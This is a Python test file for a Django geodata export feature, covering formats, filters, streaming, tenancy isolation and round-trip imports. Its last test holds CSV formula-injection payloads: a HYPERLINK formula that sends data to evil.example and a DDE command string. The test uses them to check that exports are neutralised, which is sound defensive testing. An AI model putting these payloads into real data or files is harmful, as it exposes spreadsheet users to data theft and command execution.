"""Exports: every format, the API's filters, streaming, tenancy, and the import round trip."""

import csv
import io
import json
import re
import zipfile
from types import GeneratorType

import pyogrio
import pytest
from django.contrib.gis.geos import Point
from django.core.management import call_command
from django.core.management.base import CommandError

from accounts.models import Role
from geo.io.writers import export_prepare
from geo.models import Asset
from geo.services.imports import geodata_import
from tests.factories import AssetCategoryFactory, AssetFactory, CategoryFactory, ReportFactory, member, square
from tests.geo.geodata_files import FAR, feature, l93, l93_square, lonlat, point, write_geojson, write_layer

pytestmark = pytest.mark.django_db


@pytest.fixture
def bench(community):
    return AssetCategoryFactory(community=community, code="bench", name="Banc")


def body(export) -> bytes:
    return b"".join(export.stream())


@pytest.mark.parametrize("fmt", ["geojson", "gpkg", "shp", "csv"])
def test_round_trip_import_export_import_within_1cm(community, other_community, bench, tmp_path, fmt):
    """import → export → import (into another community) gives the same features."""
    features = [
        feature(point(12.345, 67.891), ref="P1", nom="Banc du parc", cp=86000.0),
        feature(point(-1234.5, 2345.6), ref="P2", nom="Abri", cp=86100.0),
    ]
    source = write_geojson(tmp_path / "source.geojson", features)
    assert geodata_import(
        community=community, path=source, into="assets", category="bench", external_id="ref"
    ).ok
    suffix = {"shp": "zip"}.get(fmt, fmt)
    exported = tmp_path / f"export.{suffix}"
    exported.write_bytes(body(export_prepare(community=community, what="assets", fmt=fmt)))
    AssetCategoryFactory(community=other_community, code="bench", name="Banc")
    # The other community covers the same place (see conftest): a clean target to compare with.
    again = geodata_import(community=other_community, path=exported, into="assets")
    assert again.ok, again.lines()
    assert again.created == 2
    for ref, (dx, dy) in (("P1", (12.345, 67.891)), ("P2", (-1234.5, 2345.6))):
        before = Asset.objects.get(community=community, external_id=ref)
        after = Asset.objects.get(community=other_community, external_id=ref)
        assert after.geom.distance(before.geom) < 0.01
        assert after.geom.distance(Point(*l93(dx, dy), srid=2154)) < 0.01
        # CSV has no types: its numbers come back as text ("86000", never "86000.0").
        assert (after.name, after.category.code, str(after.attributes.get("cp"))) == (
            before.name,
            "bench",
            str(before.attributes["cp"]),
        )
        assert "ronde_id" not in after.attributes


def test_geojson_export_in_lambert93_carries_a_crs_member(community, bench):
    AssetFactory(community=community, category=bench, geom=Point(*l93(1, 2), srid=2154))
    data = json.loads(
        body(export_prepare(community=community, what="assets", fmt="geojson", crs="EPSG:2154"))
    )
    assert data["crs"]["properties"]["name"] == "urn:ogc:def:crs:EPSG::2154"
    x, y = data["features"][0]["geometry"]["coordinates"]
    assert abs(x - l93(1)[0]) < 0.001 and abs(y - l93(0, 2)[1]) < 0.001


def test_csv_export_has_wkt_and_attributes(community, bench):
    AssetFactory(community=community, category=bench, name="Banc", attributes={"matiere": "bois"})
    text = body(export_prepare(community=community, what="assets", fmt="csv")).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == "Banc" and rows[0]["matiere"] == "bois"
    assert rows[0]["wkt"].startswith("POINT (0.3")


def test_filters_category_status_dates_bbox(community):
    tag, depot = (
        CategoryFactory(community=community, code="tag"),
        CategoryFactory(community=community, code="depot"),
    )
    ReportFactory(community=community, category=tag, status="new", reported_at="2024-03-01T10:00:00+01:00")
    ReportFactory(
        community=community, category=tag, status="accepted", reported_at="2024-04-01T10:00:00+01:00"
    )
    ReportFactory(community=community, category=depot, status="new", reported_at="2024-03-02T10:00:00+01:00")
    ReportFactory(
        community=community,
        category=tag,
        status="new",
        reported_at="2024-03-03T10:00:00+01:00",
        geom=Point(*l93(3000, 3000), srid=2154),
    )

    def count(**filters):
        return len(
            json.loads(
                body(export_prepare(community=community, what="reports", fmt="geojson", filters=filters))
            )["features"]
        )

    assert count() == 4
    assert count(category="tag") == 3
    assert count(category="tag", status="new") == 2
    assert count(date_from="2024-03-02", date_to="2024-03-31") == 2
    west, south = lonlat(-100, -100)
    east, north = lonlat(100, 100)
    assert count(bbox=f"{west},{south},{east},{north}") == 3


def test_export_is_streamed_in_chunks(community, bench):
    for i in range(12):
        AssetFactory(community=community, category=bench, geom=Point(*l93(i, 0), srid=2154))
    export = export_prepare(community=community, what="assets", fmt="geojson")
    from geo.io import export_queries

    chunks = list(export_queries.export_rows(export.qs, what="assets", srid=4326, chunk_size=5))
    assert [len(rows) for _names, rows in chunks] == [5, 5, 2]
    assert isinstance(export.stream(), GeneratorType)


def test_other_communities_are_never_exported(community, other_community, bench):
    AssetFactory(community=community, category=bench, name="mine")
    AssetFactory(community=other_community, name="theirs")
    data = json.loads(body(export_prepare(community=community, what="assets", fmt="geojson")))
    assert [f["properties"]["name"] for f in data["features"]] == ["mine"]


def test_shapefile_export_splits_geometry_families(community, bench):
    AssetFactory(community=community, category=bench)
    AssetFactory(community=community, category=bench, geom=square(*l93(), 10))
    archive = zipfile.ZipFile(io.BytesIO(body(export_prepare(community=community, what="assets", fmt="shp"))))
    assert {"assets.shp", "assets_polygon.shp"} <= set(archive.namelist())


def test_zones_and_missions_gpkg(community, tmp_path):
    from tests.factories import MissionFactory, ZoneFactory

    ZoneFactory(community=community, name="Centre")
    MissionFactory(community=community, name="Tournée 1")
    for what, name in (("zones", "Centre"), ("missions", "Tournée 1")):
        path = tmp_path / f"{what}.gpkg"
        path.write_bytes(body(export_prepare(community=community, what=what, fmt="gpkg")))
        frame = pyogrio.read_dataframe(path)
        assert list(frame["name"]) == [name]
        assert frame.crs.to_epsg() == 2154


def test_bad_parameters_name_the_field(community):
    from core.params import ParamError

    for kwargs, field in (
        ({"what": "trees", "fmt": "csv"}, "what"),
        ({"what": "assets", "fmt": "xls"}, "format"),
        ({"what": "assets", "fmt": "csv", "crs": "lambert"}, "crs"),
        ({"what": "assets", "fmt": "csv", "filters": {"bbox": "1,2,3"}}, "bbox"),
        ({"what": "reports", "fmt": "csv", "filters": {"date_from": "hier"}}, "date_from"),
        ({"what": "zones", "fmt": "csv", "filters": {"status": "new"}}, "status"),
    ):
        with pytest.raises(ParamError) as caught:
            export_prepare(community=community, **kwargs)
        assert caught.value.field == field


def test_download_endpoint(community, other_community, api_as, bench):
    AssetFactory(community=community, category=bench, name="mine")
    AssetFactory(community=other_community, name="theirs")
    client = api_as(community, Role.VIEWER)
    response = client.get("/geo/exports/download/", {"what": "assets", "format": "geojson"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="poitiers-assets.geojson"'
    data = json.loads(b"".join(response.streaming_content))
    assert [f["properties"]["name"] for f in data["features"]] == ["mine"]
    bad = client.get("/geo/exports/download/", {"what": "assets", "format": "gpkg", "bbox": "x"})
    assert bad.status_code == 400
    assert "bbox" in json.dumps(bad.json())
    # The whole world: in range, but its south edge cannot be put in Lambert-93 (a 500 before).
    world = client.get(
        "/geo/exports/download/", {"what": "assets", "format": "csv", "bbox": "-180,-90,180,90"}
    )
    assert world.status_code == 400
    assert "bbox" in world.json() and "EPSG:2154" in json.dumps(world.json())


@pytest.mark.parametrize(
    ("language", "message"),
    [
        (
            "fr",
            "Emprise (bbox) : la longitude et la latitude minimales doivent être inférieures aux maximales.",
        ),
        ("en", "bbox: the minimum longitude and latitude must be below the maximum ones."),
    ],
)
def test_a_bad_bounding_box_is_named_in_the_users_language(community, api_as, language, message):
    client = api_as(community, Role.VIEWER)
    query = {"what": "assets", "format": "geojson", "bbox": "1,2,0,3"}
    bad = client.get("/geo/exports/download/", query, HTTP_ACCEPT_LANGUAGE=language)
    assert bad.status_code == 400
    assert bad.json() == {"bbox": [message]}


def test_the_export_page_says_a_bad_entry_next_to_its_field(client, community, bench):
    """The form is checked by its own page: an error in French beside the field, what was
    typed kept; a good request goes on to the download with the same query."""
    client.force_login(member(community, Role.VIEWER))
    bad = client.get("/geo/exports/", {"what": "assets", "format": "gpkg", "bbox": "0.3,46.5,zz"})
    assert bad.status_code == 400
    page = bad.content.decode()
    field = re.search(r'<input type="text" name="bbox" id="id_bbox"[^>]*>', page)
    assert field is not None
    assert 'value="0.3,46.5,zz"' in field.group(0)
    assert 'aria-invalid="true" aria-describedby="id_bbox-error"' in field.group(0)
    error = re.search(r'<span class="error" id="id_bbox-error" data-field="bbox">([^<]*)</span>', page)
    assert error is not None and error.group(1).startswith("Emprise (bbox) : quatre nombres attendus")
    assert '<option value="gpkg" selected>GeoPackage</option>' in page
    # The data are named in French, not "assets".
    assert '<option value="assets" selected>Éléments de patrimoine</option>' in page
    good = client.get("/geo/exports/", {"what": "assets", "format": "csv", "bbox": "0.3,46.5,0.4,46.6"})
    assert good.status_code == 302
    assert good["Location"] == "/geo/exports/download/?what=assets&format=csv&bbox=0.3%2C46.5%2C0.4%2C46.6"
    assert client.get(good["Location"]).status_code == 200


def test_export_command(community, bench, tmp_path):
    AssetFactory(community=community, category=bench, name="Banc")
    out = tmp_path / "a.gpkg"
    call_command(
        "export_geodata", community="poitiers", what="assets", fmt="gpkg", output=str(out), crs="EPSG:3857"
    )
    frame = pyogrio.read_dataframe(out)
    assert frame.crs.to_epsg() == 3857 and list(frame["name"]) == ["Banc"]
    with pytest.raises(CommandError, match="--crs"):
        call_command("export_geodata", community="poitiers", what="assets", fmt="gpkg", crs="nope")


def test_outside_features_do_not_leak_into_exports(community, bench, tmp_path):
    path = write_geojson(tmp_path / "b.geojson", [feature(point(0, 0)), feature(point(*FAR))])
    assert geodata_import(community=community, path=path, into="assets", category="bench").created == 1
    data = json.loads(body(export_prepare(community=community, what="assets", fmt="geojson")))
    assert len(data["features"]) == 1


def test_gpkg_export_reimports_polygons(community, other_community, tmp_path):
    path = write_layer(
        tmp_path / "q.gpkg", [{"nom": "Centre", "code": "C"}], [l93_square(0, 0, 250)], 2154, layer="q"
    )
    assert geodata_import(community=community, path=path, into="zones", external_id="code").ok
    exported = tmp_path / "zones.gpkg"
    exported.write_bytes(body(export_prepare(community=community, what="zones", fmt="gpkg")))
    assert geodata_import(community=other_community, path=exported, into="zones").created == 1
    a = community.zones.get().geom
    b = other_community.zones.get().geom
    assert a.sym_difference(b).area < 0.01


def test_csv_download_neutralises_formulas_but_keeps_negative_numbers(client, community, bench):
    """Issue 22: asset names like `=HYPERLINK(…)` came out unchanged in /geo/exports/download/."""
    from accounts.models import Role
    from tests.factories import member

    formulas = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1"]
    for name in formulas:
        AssetFactory(
            community=community, category=bench, name=name, attributes={"delta": -3.5, "note": "-1+2"}
        )
    client.force_login(member(community, Role.VIEWER))
    response = client.get("/geo/exports/download/", {"what": "assets", "format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(r["name"] for r in rows) == sorted("'" + f for f in formulas)
    assert {r["delta"] for r in rows} == {"-3.5"}  # a number stays a number
    assert {r["note"] for r in rows} == {"'-1+2"}
